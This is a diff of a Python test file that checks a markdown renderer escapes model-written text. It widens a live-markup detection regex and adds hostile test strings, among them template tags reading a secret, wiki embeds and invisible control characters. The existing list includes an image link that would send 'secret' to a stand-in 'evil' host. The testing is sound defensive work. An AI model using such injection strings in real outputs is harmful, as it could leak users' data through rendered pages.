@@ -23,7 +23,7 @@ from runner.answers.analyzer import Material
 from runner.answers.markdown import answer_markdown, fields_markdown, md
 from runner.answers.shape import Strict, answer_shape, parse_answer
 from runner.base.errors import AnswerError, ConfigError, OutputError
-from runner.base.text import to_terminal
+from runner.base.text import to_safe_text, to_terminal
 from runner.config.schema import validate
 from runner.job.build import resolve
 from runner.job.job import MAX_SPEAKERS, Job
@@ -251,7 +251,9 @@ def test_a_planted_link_is_not_written_through(tmp_path: Path) -> None:
 # --- what pages hold
 
 OUR_LINK = re.compile(r"\[(S\d{4})\]\((?:\.\./)*transcript\.md#s\d{4}\)")
-LIVE = re.compile(r"(?i)(?<!\\)://|www\.|!\[|(?<!\\)\]\(|(?<!\\)@")
+LIVE = re.compile(
+    r"(?i)(?<!\\)://|www\.|!\[|(?<!\\)\]\(|(?<!\\)@|%%|==|::|\{\{|\{%|\\?[$^](?<!\\.)"
+)
 
 EVIL = [
     "![x](https://evil/?q=secret)",
@@ -273,6 +275,17 @@ EVIL = [
     "+ one",
     "`code` **bold** _it_ # x",
     "$$x$$ \\(y\\) \\",
+    "$x$ and $`y`$ cost $5",
+    "%% hidden %% and %%%% 5 %",
+    "as said ^S0002",
+    "^S0002 ^[a note] x^2",
+    "==bright== a == b",
+    "[[transcript#^S0001|S0001]] ![[transcript]]",
+    "due:: today [due:: today] std::vector",
+    "{{ site.secret }} {% include x %} <% tp.file.title %>",
+    "--- title: x ---",
+    "+++",
+    "a\u202eb\u200bc\u0007d",
 ]
 
 
@@ -281,8 +294,8 @@ def test_a_page_shows_what_a_model_wrote_and_does_nothing_of_it(text: str) -> No
     shown = md(text)
     escaped = shown.replace("\\\\", "")
 
-    assert " ".join(text.split()) == unescaped(shown)
-    for mark in ("[", "]", "<", ">", "`", "*", "_", "|", "#", "~", "@"):
+    assert " ".join(to_safe_text(text).split()) == unescaped(shown)
+    for mark in ("[", "]", "<", ">", "`", "*", "_", "|", "#", "~", "@", "$", "^"):
         assert escaped.count(mark) == escaped.count(f"\\{mark}")
     assert [] == LIVE.findall(shown)
     assert not any(shown.startswith(start) for start in ("- ", "+ ", "1. ", "--", "==", "~~~"))
@@ -307,7 +320,7 @@ def test_no_part_of_an_answer_gets_into_its_page_unescaped(text: str) -> None:
     ]
     fields = {"plain": text, "many": [text], "rows": rows, "odd": {text: text}, text: text}
     page = answer_markdown("toy", {"insights": [insight], "structured_data": fields})
-    words = " ".join(text.split())
+    words = " ".join(to_safe_text(text).split())
 
     assert "<" not in page.replace("\\<", "")
     assert [] == LIVE.findall(page)
